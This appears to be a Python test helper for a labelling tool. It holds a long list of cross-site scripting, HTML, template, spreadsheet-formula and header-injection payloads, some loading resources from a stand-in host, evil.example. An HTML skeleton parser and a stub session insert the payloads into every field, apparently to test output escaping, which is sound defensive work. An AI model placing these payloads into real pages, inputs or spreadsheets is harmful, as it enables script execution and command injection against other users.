"""Texts that would do something if a page took them for HTML, a script, a style or a template."""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import numpy as np

from thresher.label_sessions import Agreement, Progress, Question, Suspect

_SCRIPT = "window.pwned=1"
PAYLOADS = (
    f"<script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{_SCRIPT}</SCRIPT>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<img src=x onerror='{_SCRIPT}'",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<svg/onload={_SCRIPT}//",
    f"<math><mi xlink:href=javascript:{_SCRIPT}>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'>",
    f"<iframe src=javascript:parent.{_SCRIPT}>",
    f"<object data=javascript:{_SCRIPT}>",
    f"<embed src=javascript:{_SCRIPT}>",
    f"<body onload={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<select autofocus onfocus={_SCRIPT}>",
    f"<video><source onerror={_SCRIPT}></video>",
    f"<audio src=x onerror={_SCRIPT}>",
    f"<marquee onstart={_SCRIPT}>",
    f"<a href=javascript:{_SCRIPT}>click</a>",
    f"<a href='java\tscript:{_SCRIPT}'>click</a>",
    f"<form action=javascript:{_SCRIPT}><button>go</button></form>",
    f"<button formaction=javascript:{_SCRIPT}>go</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_SCRIPT}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "]]><script>window.pwned=1</script>",
    "<?xml version='1.0'?><x/>",
    '" onfocus=window.pwned=1 autofocus x="',
    "' onfocus=window.pwned=1 autofocus x='",
    "` onfocus=window.pwned=1 autofocus x=`",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    '"/><img src=x onerror=window.pwned=1>',
    " onmouseover=window.pwned=1 ",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&quot; onfocus=window.pwned=1 autofocus",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1",
    "\\x3cscript\\x3ewindow.pwned=1",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "{{7*7}}",
    "{{config}}",
    "{% include 'base.html' %}",
    "{{''.__class__.__mro__}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "=cmd|'/c calc'!A1",
    "@SUM(1)",
    "\x00<script>window.pwned=1</script>",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "\x1b[2J\x1b]0;pwned\x07",
    "\u202e<script>window.pwned=1</script>",
    "\u2028window.pwned=1\u2029",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "\ufeff<script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
    "<script\n>window.pwned=1</script\n>",
    "<<script>window.pwned=1//<</script>",
    "<a" + " x" * 200 + " onclick=window.pwned=1>",
    "A" * 700 + "<script>window.pwned=1</script>",
)
HARMLESS = "harmless"


class _Skeleton(HTMLParser):
    """The elements of a page and the names of their attributes; texts apart."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")
        self.texts += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.parts.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.parts.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.parts.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.parts.append(f"<![{data}]>")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def skeleton(page: str) -> list[str]:
    """What the page consists of, whatever its texts say."""
    parser = _Skeleton()
    parser.feed(page)
    parser.close()
    return parser.parts


def texts(page: str) -> list[str]:
    """The texts and values of attributes of a page, as a browser decodes them."""
    parser = _Skeleton()
    parser.feed(page)
    parser.close()
    return parser.texts


@dataclass
class StubSession:
    """A session whose every text is the payload."""

    folder: Path
    payload: str = HARMLESS
    is_over: bool = False
    is_refusing: bool = False

    @property
    def classes(self) -> list[str]:
        return [f"a{self.payload}", f"b{self.payload}"]

    @property
    def pool(self) -> StubSession:
        return self

    def row(self, row_id: object) -> dict[str, object]:
        if row_id != self.payload:
            raise ValueError(f"the pool has no row with the id {row_id!r}")
        return {
            f"text {self.payload}": self.payload,
            f"number {self.payload}": 1.5,
            f"short {self.payload}": self.payload[:50].replace("\n", " "),
            f"picture {self.payload}": np.eye(8),
        }

    def next_question(self, annotator: str, *, wait: bool = True) -> Question | None:
        assert annotator
        if self.is_refusing:
            raise ValueError(self.payload)
        values = self.row(self.payload)
        question = Question(self.payload, values, (), self.payload, False, 0.0)
        return None if self.is_over and not wait else question

    @property
    def text_columns(self) -> list[str]:
        return [f"text {self.payload}"]

    def suspects(self) -> list[Suspect]:
        votes = {self.payload: self.payload}
        return [Suspect(self.payload, self.payload, votes, self.payload, 0.01)]

    def progress(self, _: str | None = None) -> Progress:
        return Progress(
            n_labels=3,
            n_votes=4,
            n_own_votes=2,
            n_skipped=1,
            n_imported=0,
            label_budget=10,
            error_estimate=None,
            stop_reason=self.payload if self.is_over else None,
            refitting=False,
            history=[],
            agreement=Agreement(0, None),
            votes_by={self.payload: 4},
            disputed=[self.payload],
            doubts=[self.payload],
        )
